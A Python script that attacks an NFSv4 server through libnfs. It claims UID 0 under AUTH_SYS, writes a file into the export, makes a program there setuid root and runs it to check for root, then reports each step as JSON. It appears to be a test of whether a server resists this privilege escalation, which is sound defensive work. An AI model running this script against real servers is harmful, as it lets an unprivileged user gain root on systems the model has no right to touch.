"""Attack an NFS server: an ordinary user of the PC tries to become root through a setuid program in the tree.

    python3 intruder.py ADDRESS PORT TREE PROGRAM

The client claims user ID 0, which AUTH_SYS trusts. It writes a file into the tree, makes ``PROGRAM`` there setuid root,
and then executes the program by its path on this machine. The written file is not executed: the server keeps it open
for a minute, and a file that is open for writing cannot be executed. Prints one line of JSON: ``user`` (who tried),
``mounted``, ``written``, ``setuid`` and ``executed`` (which steps worked), and ``said`` (the error messages).
"""

from __future__ import annotations

import ctypes
import ctypes.util
import json
import os
import subprocess
import sys

_LIMIT_MS = 10_000
_CONTENT = b"written by an ordinary user"


class Server:
    """An NFSv4 client based on libnfs (from the package libnfs-utils)."""

    def __init__(self, address: str, port: str, tree: str) -> None:
        self._library = ctypes.CDLL(ctypes.util.find_library("nfs"))
        self._library.nfs_init_context.restype = ctypes.c_void_p
        self._library.nfs_get_error.restype = ctypes.c_char_p
        self._library.nfs_parse_url_dir.restype = ctypes.POINTER(ctypes.c_char_p * 3)
        self._context = ctypes.c_void_p(self._library.nfs_init_context())
        self._library.nfs_set_timeout(self._context, _LIMIT_MS)
        url = f"nfs://{address}{tree}?version=4&nfsport={port}&uid=0&gid=0"
        self._server, self._path, _ = self._library.nfs_parse_url_dir(self._context, url.encode()).contents

    def mount(self) -> None:
        """Connect to the server."""
        self._done(self._library.nfs_mount(self._context, self._server, self._path))

    def write(self, name: str) -> None:
        """Create a file."""
        handle = ctypes.c_void_p()
        flags = os.O_CREAT | os.O_WRONLY
        self._done(self._library.nfs_open2(self._context, f"/{name}".encode(), flags, 0o755, ctypes.byref(handle)))
        self._done(self._library.nfs_write(self._context, handle, ctypes.c_uint64(len(_CONTENT)), _CONTENT))
        self._done(self._library.nfs_close(self._context, handle))

    def make_setuid(self, name: str) -> None:
        """Make a file setuid."""
        self._done(self._library.nfs_chmod(self._context, f"/{name}".encode(), 0o4755))

    def _done(self, status: int) -> None:
        if status < 0:
            raise OSError(self._library.nfs_get_error(self._context).decode(errors="replace"))


def execute(program: str) -> None:
    """Run id(1) from the tree; raise an error unless it runs as root."""
    done = subprocess.run([program], capture_output=True, text=True, check=True)
    if "euid=0" not in done.stdout:
        raise OSError(f"it ran as {done.stdout}")


def main(address: str, port: str, tree: str, program: str) -> None:
    """Run the attack and print which steps succeed."""
    server = Server(address, port, tree)
    found: dict[str, object] = {"user": os.geteuid()}
    said: list[str] = []
    for what, step in (
        ("mounted", server.mount),
        ("written", lambda: server.write("left-by-an-intruder")),
        ("setuid", lambda: server.make_setuid(program)),
        ("executed", lambda: execute(f"{tree}/{program}")),
    ):
        found[what] = False
        if said and what != "executed":
            continue  # without a mount, the library blocks forever
        try:
            step()
        except (OSError, subprocess.CalledProcessError) as fault:
            said.append(f"{what}: {fault}")
        else:
            found[what] = True
    print(json.dumps({**found, "said": said}))


if __name__ == "__main__":
    main(*sys.argv[1:])
